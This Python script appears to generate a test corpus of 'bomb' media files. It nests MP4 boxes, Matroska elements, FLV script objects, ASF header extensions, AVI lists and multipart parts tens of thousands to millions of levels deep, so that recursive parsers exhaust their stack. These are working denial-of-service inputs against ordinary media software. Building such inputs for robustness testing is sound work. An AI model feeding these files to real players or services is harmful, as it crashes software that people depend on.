"""What stands in itself, a hundred thousand times: it costs whoever reads it by calling himself the stack."""
import struct

from bombs.made import box, clip, edited, element, mkv, mkv_cluster, mkv_track, number

DEEP = 100_000


def nested(wrap, times, inside=b""):
    """`wrap(length)`: the bytes that stand before something of that length."""
    parts, length = [], len(inside)
    for _ in range(times):
        parts.append(wrap(length))
        length += len(parts[-1])
    return b"".join(reversed(parts)) + inside


def boxes_in_boxes(path, kind, times=DEEP):
    whole = clip(path, words=("-c:v", "mpeg4"))
    deep = nested(lambda length: struct.pack(">I4s", 8 + length, kind), times)
    path.write_bytes(edited(whole, {b"moov": lambda moov: moov + deep}))


def master(identity):
    head = bytes.fromhex(identity)
    return lambda length: head + (1 << 56 | length).to_bytes(8, "big")


def mkv_nested(path, outer, inner, inside=b""):
    """In `outer`, elements `inner` in each other."""
    body = nested(master(inner), DEEP, inside)
    for identity in reversed(outer):
        body = element(identity, body)
    path.write_bytes(mkv(body, tracks=mkv_track(b"V_VP8", 160, 120), clusters=mkv_cluster(b"x")))


def mkv_segments(path):
    head = element("1A45DFA3", element("4282", b"matroska") + number("4287", 4) + number("4285", 2))
    path.write_bytes(head + nested(master("18538067"), DEEP))


def flv(path, kind):
    """A script's data: objects (3) or lists (10) in each other."""
    step = b"\x00\x01a\x03" if kind == 3 else b"\x00\x00\x00\x01\x0a"
    first = b"\x03" if kind == 3 else b"\x0a"
    body = b"\x02\x00\x0aonMetaData" + b"\x08\x00\x00\x00\x01\x00\x01a" + first + step * (3_000_000 if kind == 3 else 2_500_000)
    tag = b"\x12" + len(body).to_bytes(3, "big") + bytes(7) + body + struct.pack(">I", 11 + len(body))
    whole = clip(path, words=("-c:v", "flv"))
    path.write_bytes(whole[:13] + tag + whole[13:])


def asf(path, times):
    """Header extensions in header extensions."""
    extension = bytes.fromhex("B503BF5F2EA9CF118EE300C00C205365")
    reserved = bytes.fromhex("11D2D3ABBAA9CF118EE600C00C205365") + struct.pack("<H", 6)
    deep = nested(lambda length: extension + struct.pack("<Q", 46 + length) + reserved + struct.pack("<I", length), times)
    head = bytes.fromhex("3026B2758E66CF11A6D900AA0062CE6C") + struct.pack("<QIBB", 30 + len(deep), 1, 1, 2)
    path.write_bytes(head + deep + bytes(4096))


def avi(path):
    whole = clip(path, words=("-c:v", "mjpeg", "-pix_fmt", "yuvj420p"))
    deep = nested(lambda length: b"LIST" + struct.pack("<I", 4 + length) + b"strl", DEEP)
    out = bytearray(whole[:24] + deep + whole[24:])
    for place in (4, 16):
        struct.pack_into("<I", out, place, struct.unpack_from("<I", out, place)[0] + len(deep))
    path.write_bytes(out)


def tags(path, head, times, foot=b""):
    """Empty tags before a video, each of which wants somebody who reads it."""
    path.write_bytes(head * times + clip(path, words=("-c:v", "mpeg4", "-movflags", "+faststart")) + foot)


def parts(path):
    """Parts whose content is parts."""
    body = b"".join(f"--b{n}\r\nContent-Type: multipart/x-mixed-replace; boundary=b{n + 1}\r\n\r\n".encode() for n in range(20_000))
    path.write_bytes(body)


ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x0aTXXX\x00\x00\x00\x00\x00\x00"
ICY = b"APETAGEX" + struct.pack("<IIII", 2000, 32, 0, 0xA0000000) + bytes(8)

FILES = {
    "moov.mp4": lambda p: boxes_in_boxes(p, b"moov"),
    "deep-moov.mp4": lambda p: boxes_in_boxes(p, b"moov", 2_000_000),
    "trak.mp4": lambda p: boxes_in_boxes(p, b"trak", 2_000_000),
    "udta.mp4": lambda p: boxes_in_boxes(p, b"udta", 2_000_000),
    "chapters.mkv": lambda p: mkv_nested(p, ["1043A770", "45B9"], "B6"),
    "tags.mkv": lambda p: mkv_nested(p, ["1254C367", "7373"], "67C8", element("45A3", b"a")),
    "segments.mkv": mkv_segments,
    "targets.mkv": lambda p: mkv_nested(p, ["1254C367"], "63C0"),
    "objects.flv": lambda p: flv(p, 3),
    "lists.flv": lambda p: flv(p, 10),
    "extensions.asf": lambda p: asf(p, 20_000),
    "lists.avi": avi,
    "id3.mp4": lambda p: tags(p, ID3, 5_000),
    "ape.mp4": lambda p: tags(p, ICY, 5_000),
    "parts.mjpeg": parts,
}
